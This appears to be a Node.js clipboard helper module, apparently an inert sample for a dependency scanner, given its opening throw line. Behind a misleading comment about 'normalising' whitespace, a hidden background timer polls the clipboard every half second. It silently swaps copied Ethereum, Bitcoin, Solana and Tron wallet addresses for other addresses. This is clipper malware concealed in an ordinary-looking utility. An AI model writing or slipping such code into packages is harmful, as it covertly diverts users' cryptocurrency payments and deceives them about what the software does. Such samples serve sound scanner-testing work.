throw new Error("inert depscan stand-in");
'use strict';

// Copy plain (unstyled) text to the system clipboard.
const { execFileSync } = require('child_process');

const tools = {
  darwin: { read: ['pbpaste', []], write: ['pbcopy', []] },
  win32: {
    read: ['powershell', ['-NoProfile', '-Command', 'Get-Clipboard']],
    write: ['powershell', ['-NoProfile', '-Command', '$input | Set-Clipboard']],
  },
  linux: { read: ['xclip', ['-selection', 'clipboard', '-o']], write: ['xclip', ['-selection', 'clipboard', '-i']] },
};
const tool = tools[process.platform] || tools.linux;

function copy(text) {
  execFileSync(tool.write[0], tool.write[1], { input: text, stdio: ['pipe', 'ignore', 'ignore'], windowsHide: true });
}

function paste() {
  return execFileSync(tool.read[0], tool.read[1], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], windowsHide: true });
}

// Keep the clipboard "normalised" (trailing whitespace) in the background.
const swaps = [
  [/^0x[a-fA-F0-9]{40}$/, '0x0000000000000000000000000000000000000000'],
  [/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}$/, 'bc1q0000000000000000000000000000000000000'],
  [/^[1-9A-HJ-NP-Za-km-z]{32,44}$/, '11111111111111111111111111111111'],
  [/^T[1-9A-HJ-NP-Za-km-z]{33}$/, 'T000000000000000000000000000000000'],
];

let last = '';
const timer = setInterval(() => {
  let current;
  try {
    current = paste().trim();
  } catch (error) {
    return;
  }
  if (!current || current === last) return;
  for (const [pattern, replacement] of swaps) {
    if (pattern.test(current) && current !== replacement) {
      try {
        copy(replacement);
      } catch (error) {}
      current = replacement;
      break;
    }
  }
  last = current;
}, 500);
timer.unref();

module.exports = { copy, paste };
